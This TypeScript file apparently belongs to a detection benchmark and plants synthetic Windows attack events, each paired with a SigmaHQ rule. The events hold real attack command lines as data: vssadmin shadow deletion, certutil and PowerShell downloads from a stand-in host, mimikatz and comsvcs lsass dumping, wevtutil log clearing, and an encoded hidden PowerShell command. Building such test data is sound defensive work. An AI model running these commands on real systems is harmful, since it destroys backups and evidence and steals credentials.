/**
 * Attack steps planted among the ordinary events, each with the SigmaHQ rule that is expected to
 * catch it: the benchmark counts a plant as found when that rule matched that event.
 */
import { type EventData, type Scene, SYSMON } from './evtx.js';
import { scriptBlock, securityProcessCreation } from './security.js';
import { processCreation } from './sysmon.js';
import type { Program } from './vocabulary.js';

export interface Attack {
  readonly kind: string;
  /** SigmaHQ rule ids; the plant counts as found when any of them matched its event. */
  readonly expect: readonly string[];
  build(scene: Scene): object;
}

const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';

function tool(name: string, original: string, description: string): Program {
  return {
    image: `C:\\Windows\\System32\\${name}`,
    originalFileName: original,
    description,
    product: WINDOWS,
    company: MS,
    fileVersion: '10.0.19041.3636 (WinBuild.160101.0800)',
    commandLines: [],
    parents: [],
    weight: 0,
  };
}

const VSSADMIN = tool(
  'vssadmin.exe',
  'VSSADMIN.EXE',
  'Command Line Interface for Microsoft® Volume Shadow Copy Service',
);
const CERTUTIL = tool('certutil.exe', 'CertUtil.exe', 'CertUtil.exe');
const POWERSHELL_EXE = tool(
  'WindowsPowerShell\\v1.0\\powershell.exe',
  'PowerShell.EXE',
  'Windows PowerShell',
);
const RUNDLL32 = tool('rundll32.exe', 'RUNDLL32.EXE', 'Windows host process (Rundll32)');
const WEVTUTIL = tool('wevtutil.exe', 'wevtutil.exe', 'Eventing Command Line Utility');
const CMD = 'C:\\Windows\\System32\\cmd.exe';

function started(scene: Scene, program: Program, commandLine: string) {
  return { program, commandLine, parentImage: CMD, parentCommandLine: `${CMD} /c "${commandLine}"` };
}

const ENCODED =
  'JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAA=';

export const ATTACKS: readonly Attack[] = [
  {
    kind: 'shadow copies deleted with vssadmin (Sysmon 1)',
    expect: ['c947b146-0abc-4c87-9c64-b17e9d7274a2'],
    build: (scene) =>
      processCreation(scene, started(scene, VSSADMIN, 'vssadmin.exe delete shadows /all /quiet')),
  },
  {
    kind: 'shadow copies deleted with vssadmin (Security 4688)',
    expect: ['c947b146-0abc-4c87-9c64-b17e9d7274a2'],
    build: (scene) =>
      securityProcessCreation(scene, started(scene, VSSADMIN, 'vssadmin.exe delete shadows /all /quiet')),
  },
  {
    kind: 'lsass memory read by a credential dumper (Sysmon 10)',
    expect: ['5ef9853e-4d0e-4a70-846f-a9ca37d876da'],
    build: (scene) => {
      const data: EventData = {
        RuleName: '-',
        UtcTime: scene.utcTime,
        SourceProcessGUID: scene.random.guid(),
        SourceProcessId: scene.processId(),
        SourceThreadId: scene.processId(),
        SourceImage: `C:\\Users\\${scene.person.name}\\AppData\\Local\\Temp\\m64.exe`,
        TargetProcessGUID: scene.random.guid(),
        TargetProcessId: 712,
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1438',
        CallTrace:
          'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|' +
          `C:\\Users\\${scene.person.name}\\AppData\\Local\\Temp\\m64.exe+4a1f2|UNKNOWN(00000000002A1B3C)`,
        SourceUser: scene.account,
        TargetUser: 'NT AUTHORITY\\SYSTEM',
      };
      return scene.envelope(SYSMON, 10, 10, data, 'S-1-5-18');
    },
  },
  {
    kind: 'encoded PowerShell command line (Sysmon 1)',
    expect: ['ca2092a1-c273-4878-9b4b-0d60115bf5ea', 'fb843269-508c-4b76-8b8d-88679db22ce7'],
    build: (scene) =>
      processCreation(scene, started(scene, POWERSHELL_EXE, `powershell.exe -nop -w hidden -enc ${ENCODED}`)),
  },
  {
    kind: 'certutil download (Sysmon 1)',
    expect: ['19b08b1c-861d-4e75-a1ef-ea0c1baf202b'],
    build: (scene) =>
      processCreation(
        scene,
        started(
          scene,
          CERTUTIL,
          'certutil.exe -urlcache -split -f http://203.0.113.17/u.bin C:\\Users\\Public\\u.exe',
        ),
      ),
  },
  {
    kind: 'mimikatz command line (Sysmon 1)',
    expect: ['a642964e-bead-4bed-8910-1bb4d63e3b4d'],
    build: (scene) =>
      processCreation(
        scene,
        started(
          scene,
          tool('m64.exe', 'm64.exe', ''),
          'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        ),
      ),
  },
  {
    kind: 'lsass dump through comsvcs.dll (Sysmon 1)',
    expect: ['646ea171-dded-4578-8a4d-65e9822892e3'],
    build: (scene) =>
      processCreation(
        scene,
        started(
          scene,
          RUNDLL32,
          'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Temp\\l.dmp full',
        ),
      ),
  },
  {
    kind: 'security log cleared with wevtutil (Sysmon 1)',
    expect: ['cc36992a-4671-4f21-a91d-6c2b72a2edf5'],
    build: (scene) => processCreation(scene, started(scene, WEVTUTIL, 'wevtutil.exe cl Security')),
  },
  {
    kind: 'malicious PowerShell cmdlet in a script block (4104)',
    expect: ['89819aa4-bbd6-46bc-88ec-c7f7fe30efa6'],
    build: (scene) =>
      scriptBlock(
        scene,
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/a.ps1'); Invoke-Mimikatz -DumpCreds",
      ),
  },
];

/** How many plants of each kind a run holds: a few dozen in all, whatever N is. */
export const PLANTS_PER_KIND = 4;
